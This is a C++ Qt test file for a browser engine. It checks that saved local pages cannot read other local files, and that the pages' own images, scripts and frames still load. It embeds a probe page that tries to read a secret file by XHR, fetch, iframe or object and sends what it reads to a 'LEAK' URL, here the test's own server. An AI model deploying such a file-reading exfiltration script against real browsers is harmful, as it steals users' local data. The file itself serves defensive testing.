// A saved page reads none of the user's local files in the real engine: not by XHR or fetch, not
// through a frame's or an object's document, not another saved host's (a restricted one too), and
// so sends nothing out; its own pictures, scripts, frames and files still load. Saved pages are
// judged both ways the host may give them: by their host (a saved host's security identifier)
// and as plain local files (their folder).

#include "BrowserFixture.h"
#include "TestHttpServer.h"

#include "platform/engine/EngineEnvironment.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>

namespace {

// Tries to read the file named by the query's target the way the query's "how" says, reports
// what it read in an alert and sends it to the server.
const char kReader[] = R"(<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>reader</title></head><body><script>
function report(text) {
  alert('read:' + text);
  if (text) new Image().src = 'LEAK?' + encodeURIComponent(text);
}
function documentText(element) {
  try { var d = element.contentDocument; return d && d.body ? d.body.textContent : ''; }
  catch (e) { return ''; }
}
// A refused frame may raise no event: what it holds is read after a while all the same.
function embed(tag, attribute, target) {
  var e = document.createElement(tag), done = false;
  function finish() { if (!done) { done = true; report(documentText(e)); } }
  e.addEventListener('load', finish);
  e.addEventListener('error', finish);
  setTimeout(finish, 3000);
  e.setAttribute(attribute, target);
  document.body.appendChild(e);
}
var query = new URLSearchParams(location.search), target = query.get('target');
switch (query.get('how')) {
case 'sync XHR':
  try {
    var x = new XMLHttpRequest(); x.open('GET', target, false); x.send(); report(x.responseText);
  } catch (e) { report(''); }
  break;
case 'fetch':
  fetch(target).then(function (r) { return r.text(); })
      .then(report, function () { report(''); });
  break;
case 'frame': embed('iframe', 'src', target); break;
case 'object': embed('object', 'data', target); break;
}
</script></body></html>)";

// The site's own picture, script, frame and file, named from the page's folder by PREFIX.
const char kSitePage[] = R"(<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>site</title>
<script src="PREFIXown.js"></script></head><body>
<img id="image" src="PREFIXown.png"><iframe id="frame" src="PREFIXown.html"></iframe>
<script>
window.onload = function () {
  var image = document.getElementById('image'), text = '', frame = '';
  try {
    var x = new XMLHttpRequest(); x.open('GET', 'PREFIXown.txt', false); x.send();
    text = x.responseText;
  } catch (e) {}
  try { frame = document.getElementById('frame').contentDocument.body.textContent; } catch (e) {}
  alert(['image ' + (image.complete && image.naturalWidth > 0),
         'script ' + (typeof ownScript !== 'undefined'), 'frame ' + frame, 'file ' + text]
            .join(', '));
};
</script></body></html>)";

} // namespace

class TestLocalFiles final : public QObject {
    Q_OBJECT
public:
    static void initMain() { engine::PrepareEngineEnvironment(); }

private slots:
    void init();
    void cleanup() {
        m_f.reset();
        m_root.reset();
    }
    void savedPageReadsNoOtherFile_data();
    void savedPageReadsNoOtherFile();
    void ownContentStillLoads_data();
    void ownContentStillLoads();

private:
    void Write(const QString &path, const QByteArray &content) {
        QVERIFY(QDir(m_root->path()).mkpath(QFileInfo(path).path()));
        QFile file(m_root->filePath(path));
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(content);
    }
    QString UrlOf(const QString &path) const {
        return QUrl::fromLocalFile(m_root->filePath(path)).toString(QUrl::FullyEncoded);
    }
    // Judged by their host, as with the program's UseOrginalUrl; else as plain local files.
    void JudgeSavedPagesByHost(bool byHost) {
        m_f->manager->webDirectory = byHost ? m_root->filePath(u"web"_qs) : QString();
    }
    // The texts of the page's alerts.
    QStringList Alerts() const {
        QStringList texts;
        for (const ShownMessage &m : m_f->host->messages)
            texts << m.text;
        return texts;
    }

    std::unique_ptr<BrowserFixture> m_f;
    std::unique_ptr<QTemporaryDir> m_root; // the web directory, a secret beside it
    TestHttpServer m_server;
};

void TestLocalFiles::init() {
    m_root = std::make_unique<QTemporaryDir>();
    QVERIFY(m_root->isValid());
    QVERIFY(m_server.IsListening());
    m_f = std::make_unique<BrowserFixture>();
    Write(u"secret.txt"_qs, "a secret outside the web directory");
    Write(u"web/a.example/reader.html"_qs,
          QByteArray(kReader).replace("LEAK", m_server.Url(u"/leak"_qs).toUtf8()));
    Write(u"web/a.example/site.html"_qs, QByteArray(kSitePage).replace("PREFIX", ""));
    Write(u"web/a.example/pages/site.html"_qs, QByteArray(kSitePage).replace("PREFIX", "../"));
    Write(u"web/a.example/own.js"_qs, "var ownScript = true;");
    Write(u"web/a.example/own.html"_qs, "<!DOCTYPE html><body>own frame</body>");
    Write(u"web/a.example/own.txt"_qs, "own file");
    QVERIFY(
        QFile::copy(qEnvironmentVariable("QM_SOURCE_DIR") + u"/tests/fixtures/engine/dot.png"_qs,
                    m_root->filePath(u"web/a.example/own.png"_qs)));
    Write(u"web/b.example/other.txt"_qs, "another host's file");
    Write(u"web/b.example/other.html"_qs, "<!DOCTYPE html><body>another host's page</body>");
    Write(u"web/restricted/closed.txt"_qs, "a restricted host's file");
}

void TestLocalFiles::savedPageReadsNoOtherFile_data() {
    QTest::addColumn<bool>("byHost");
    QTest::addColumn<QString>("how");
    QTest::addColumn<QString>("target"); // below the test's directory
    const QList<std::pair<const char *, QString>> attempts{
        {"sync XHR", u"secret.txt"_qs},
        {"fetch", u"secret.txt"_qs},
        {"frame", u"secret.txt"_qs},
        {"object", u"secret.txt"_qs},
        {"sync XHR", u"web/b.example/other.txt"_qs},
        {"frame", u"web/b.example/other.html"_qs},
        {"fetch", u"web/restricted/closed.txt"_qs}, // a frame of it: refused by its zone already
    };
    for (const bool byHost : {true, false}) {
        for (const auto &[how, target] : attempts) {
            QTest::addRow("%s, %s, %s", byHost ? "by host" : "plain", how, qPrintable(target))
                << byHost << QString::fromUtf8(how) << target;
        }
    }
}

void TestLocalFiles::savedPageReadsNoOtherFile() {
    QFETCH(bool, byHost);
    QFETCH(QString, how);
    QFETCH(QString, target);
    JudgeSavedPagesByHost(byHost);
    const QString reader = UrlOf(u"web/a.example/reader.html"_qs) + u"?how="_qs +
                           QString::fromUtf8(QUrl::toPercentEncoding(how)) + u"&target="_qs +
                           QString::fromUtf8(QUrl::toPercentEncoding(UrlOf(target)));
    QCOMPARE(m_f->LoadUrl(reader), u"reader"_qs);
    QTRY_VERIFY_WITH_TIMEOUT(!Alerts().isEmpty(), kLoadTimeout);
    QCOMPARE(Alerts(), QStringList{u"read:"_qs});
    QVERIFY(m_f->WasBlocked(QFileInfo(target).fileName(), 0));
    QCOMPARE(m_server.requests.size(), 0);
}

void TestLocalFiles::ownContentStillLoads_data() {
    QTest::addColumn<bool>("byHost");
    QTest::addColumn<QString>("page");
    QTest::addColumn<QString>("loaded");
    const QString all = u"image true, script true, frame own frame, file own file"_qs;
    QTest::newRow("by host") << true << u"site.html"_qs << all;
    QTest::newRow("by host, from a folder of the site") << true << u"pages/site.html"_qs << all;
    QTest::newRow("plain") << false << u"site.html"_qs << all;
    // A plain local page takes no file's content from above its folder; it still shows and
    // runs what is there.
    QTest::newRow("plain, from a folder below")
        << false << u"pages/site.html"_qs << u"image true, script true, frame , file "_qs;
}

void TestLocalFiles::ownContentStillLoads() {
    QFETCH(bool, byHost);
    QFETCH(QString, page);
    QFETCH(QString, loaded);
    JudgeSavedPagesByHost(byHost);
    QCOMPARE(m_f->LoadUrl(UrlOf(u"web/a.example/"_qs + page)), u"site"_qs);
    QTRY_VERIFY_WITH_TIMEOUT(!Alerts().isEmpty(), kLoadTimeout);
    QCOMPARE(Alerts(), QStringList{loaded});
    // The engine reads the readable frame for its DocumentComplete and snapshot.
    const engine::DocumentSnapshot &snapshot = m_f->browser->Snapshot();
    QCOMPARE(snapshot.frames.size(), 1);
    QVERIFY(snapshot.frames[0].readable);
}

QTEST_MAIN(TestLocalFiles)
#include "tst_LocalFiles.moc"
